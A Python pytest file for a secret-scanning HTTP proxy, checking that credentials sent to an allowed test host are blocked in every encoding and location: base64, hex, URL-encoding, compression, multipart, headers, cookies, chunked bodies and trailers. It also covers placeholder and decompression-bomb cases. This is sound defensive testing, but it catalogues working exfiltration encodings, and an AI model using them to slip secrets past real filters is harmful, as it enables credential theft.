"""Exfiltration of secrets through an allowed destination: every place and encoding a secret can
hide in a request, plus placeholders sent where they are not bound.

`other.test` is allowed and has no injection, the typical "allowed but not trusted" destination.
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from collections.abc import Callable

import brotli  # type: ignore[import-untyped]
import pytest
import zstandard

from tests.proxy.conftest import Env
from tests.proxy.harness import ALICE_SECRET, TEAM_SECRET, connect_tunnel, read_response, status_of

GITHUB_TOKEN = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"
ACME_TOKEN = "acme_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6"


def _request(env: Env, head: str, body: bytes = b"", extra: str = "") -> bytes:
    sock, _ = connect_tunnel(env.proxy, f"other.test:{env.origin.port}", sni="other.test")
    raw = (
        head.encode()
        + f"\r\nHost: other.test:{env.origin.port}\r\n{extra}Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    sock.sendall(raw)
    return read_response(sock)


def _assert_blocked(
    env: Env, mark: int, response: bytes, secret: str, rule: str | None = None
) -> None:
    assert status_of(response) in (400, 403), response[:200]
    assert not env.recorder.host_saw("other.test", secret.encode())
    record = env.proxy.log.wait_for(mark, lambda r: r["decision"] == "deny")
    assert record["reason"] in ("secret_detected", "placeholder_unbound"), record
    if rule is not None:
        assert rule in record["scan_rule_ids"], record


def _multipart(secret: str) -> tuple[bytes, str]:
    boundary = "XyZboundary"
    encoded = base64.encodebytes(f"config: {secret}\n".encode()).decode()
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--{boundary}--\r\n"
    ).encode()
    return body, f"multipart/form-data; boundary={boundary}"


BODY_ENCODINGS: dict[str, Callable[[str], tuple[bytes, str]]] = {
    "raw": lambda s: (f"token={s}".encode(), ""),
    "json-unicode-escapes": lambda s: (
        json.dumps({"t": "".join(f"\\u{ord(c):04x}" for c in s)}).replace("\\\\", "\\").encode(),
        "",
    ),
    "base64": lambda s: (base64.b64encode(f"leak:{s}".encode()), ""),
    "base64-urlsafe-nopad": lambda s: (base64.urlsafe_b64encode(f"x{s}".encode()).rstrip(b"="), ""),
    "double-base64": lambda s: (base64.b64encode(base64.b64encode(s.encode())), ""),
    "hex": lambda s: (s.encode().hex().encode(), ""),
    "url-encoded": lambda s: (urllib.parse.quote(s, safe="").encode(), ""),
    "url-encoded-every-char": lambda s: ("".join(f"%{b:02X}" for b in s.encode()).encode(), ""),
    "base64-then-url": lambda s: (urllib.parse.quote(base64.b64encode(s.encode())).encode(), ""),
    "gzip-without-header": lambda s: (gzip.compress(s.encode()), ""),
    "multipart-base64-part": _multipart,
}


@pytest.mark.parametrize("encoding", sorted(BODY_ENCODINGS))
def test_team_secret_in_body_any_encoding(env: Env, encoding: str) -> None:
    body, content_type = BODY_ENCODINGS[encoding](TEAM_SECRET)
    mark = env.proxy.log.mark()
    extra = f"Content-Type: {content_type}\r\n" if content_type else ""
    response = _request(env, f"POST /exfil-{encoding} HTTP/1.1", body, extra)
    _assert_blocked(env, mark, response, TEAM_SECRET, "secret:team/github-bot")
    assert not any(f"/exfil-{encoding}" in s.path for s in env.recorder.snapshot())


@pytest.mark.parametrize("coding", ["gzip", "br", "zstd", "gzip, br"])
def test_secret_in_content_encoded_body(env: Env, coding: str) -> None:
    data = json.dumps({"key": ALICE_SECRET}).encode()
    for name in [c.strip() for c in coding.split(",")]:
        data = {
            "gzip": gzip.compress,
            "br": brotli.compress,
            "zstd": zstandard.ZstdCompressor().compress,
        }[name](data)
    mark = env.proxy.log.mark()
    response = _request(env, "POST /exfil-coded HTTP/1.1", data, f"Content-Encoding: {coding}\r\n")
    _assert_blocked(env, mark, response, ALICE_SECRET, "secret:personal/alice/openai")


def test_secret_in_query(env: Env) -> None:
    mark = env.proxy.log.mark()
    response = _request(env, f"GET /q?leak={urllib.parse.quote(TEAM_SECRET)} HTTP/1.1")
    _assert_blocked(env, mark, response, TEAM_SECRET)


def test_secret_in_path_segment_base64(env: Env) -> None:
    mark = env.proxy.log.mark()
    encoded = base64.urlsafe_b64encode(TEAM_SECRET.encode()).decode().rstrip("=")
    response = _request(env, f"GET /p/{encoded} HTTP/1.1")
    _assert_blocked(env, mark, response, TEAM_SECRET)


def test_secret_in_custom_header(env: Env) -> None:
    mark = env.proxy.log.mark()
    response = _request(env, "GET /h HTTP/1.1", extra=f"X-Debug: {TEAM_SECRET}\r\n")
    _assert_blocked(env, mark, response, TEAM_SECRET)


def test_secret_in_cookie_url_encoded(env: Env) -> None:
    mark = env.proxy.log.mark()
    cookie = urllib.parse.quote(f"sess={TEAM_SECRET}", safe="")
    response = _request(env, "GET /c HTTP/1.1", extra=f"Cookie: a=1; data={cookie}\r\n")
    _assert_blocked(env, mark, response, TEAM_SECRET)


def test_builtin_rule_token_in_body(env: Env) -> None:
    mark = env.proxy.log.mark()
    response = _request(env, "POST /gh HTTP/1.1", f'{{"pat": "{GITHUB_TOKEN}"}}'.encode())
    _assert_blocked(env, mark, response, GITHUB_TOKEN, "builtin:github-token")


def test_policy_scan_rule_in_body(env: Env) -> None:
    mark = env.proxy.log.mark()
    response = _request(env, "POST /acme HTTP/1.1", f"x={ACME_TOKEN}".encode())
    _assert_blocked(env, mark, response, ACME_TOKEN, "testing:acme-token")


def test_secret_split_across_chunked_chunks(env: Env) -> None:
    """Chunk boundaries do not split the scan: the body is reassembled before it is scanned."""
    mark = env.proxy.log.mark()
    secret = TEAM_SECRET.encode()
    pieces = [secret[i : i + 3] for i in range(0, len(secret), 3)]
    body = b"".join(b"%x\r\n" % len(p) + p + b"\r\n" for p in pieces) + b"0\r\n\r\n"
    sock, _ = connect_tunnel(env.proxy, f"other.test:{env.origin.port}", sni="other.test")
    sock.sendall(
        f"POST /chunks HTTP/1.1\r\nHost: other.test:{env.origin.port}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        + body
    )
    _assert_blocked(env, mark, read_response(sock), TEAM_SECRET)


def test_secret_in_trailer(env: Env) -> None:
    """mitmproxy 12 does not implement HTTP/1 request trailers and drops the connection, so the
    trailer (and the request) never leave; HTTP/2 trailers are parsed and scanned with the head."""
    sock, _ = connect_tunnel(env.proxy, f"other.test:{env.origin.port}", sni="other.test")
    sock.sendall(
        f"POST /trailer HTTP/1.1\r\nHost: other.test:{env.origin.port}\r\nTransfer-Encoding: chunked\r\n"
        f"Trailer: X-Leak\r\n\r\n2\r\nhi\r\n0\r\nX-Leak: {TEAM_SECRET}\r\n\r\n".encode()
    )
    assert status_of(read_response(sock, timeout=3)) in (0, 400, 403)
    assert not env.recorder.host_saw("other.test", TEAM_SECRET.encode())
    assert not env.recorder.contains(b"/trailer")


def test_placeholder_to_unbound_host(env: Env) -> None:
    mark = env.proxy.log.mark()
    response = _request(
        env, "GET /ph HTTP/1.1", extra="Authorization: Bearer umbra-placeholder:team/github-bot\r\n"
    )
    assert status_of(response) == 403
    assert not env.recorder.contains(b"/ph")
    record = env.proxy.log.wait_for(mark, lambda r: r["decision"] == "deny")
    assert record["reason"] == "placeholder_unbound"
    assert record["scan_rule_ids"] == ["placeholder:team/github-bot"]


def test_placeholder_url_encoded_in_body_to_unbound_host(env: Env) -> None:
    mark = env.proxy.log.mark()
    body = urllib.parse.quote("umbra-placeholder:personal/openai", safe="").encode()
    response = _request(env, "POST /ph2 HTTP/1.1", body)
    assert status_of(response) == 403
    env.proxy.log.wait_for(mark, lambda r: r["reason"] == "placeholder_unbound")


def test_undecodable_content_encoding_is_refused(env: Env) -> None:
    """A body the scanner cannot read is not forwarded (fail closed, not 'skip the scan')."""
    mark = env.proxy.log.mark()
    response = _request(
        env, "POST /bad-gzip HTTP/1.1", b"\x1f\x8bnot really gzip", "Content-Encoding: gzip\r\n"
    )
    assert status_of(response) == 400
    assert not env.recorder.contains(b"/bad-gzip")
    env.proxy.log.wait_for(mark, lambda r: r["reason"] == "undecodable_content")


def test_decompression_bomb_is_refused(env: Env) -> None:
    mark = env.proxy.log.mark()
    bomb = gzip.compress(b"\0" * (8 << 20))
    response = _request(env, "POST /bomb HTTP/1.1", bomb, "Content-Encoding: gzip\r\n")
    assert status_of(response) == 413
    assert not env.recorder.contains(b"/bomb")
    env.proxy.log.wait_for(mark, lambda r: r["reason"] == "body_too_large")


def test_secret_as_query_key_and_path_is_refused_and_never_logged(env: Env) -> None:
    """Names are logged by design; a secret smuggled into one is redacted from the record."""
    mark = env.proxy.log.mark()
    response = _request(env, f"GET /p/{TEAM_SECRET}?{TEAM_SECRET}=1 HTTP/1.1")
    _assert_blocked(env, mark, response, TEAM_SECRET)
    raw = b"".join(p.read_bytes() for p in env.proxy.log.directory.glob("*.jsonl"))
    assert TEAM_SECRET.encode() not in raw
    record = env.proxy.log.wait_for(mark, lambda r: r["decision"] == "deny")
    assert record["query_keys"] == ["[redacted]"]
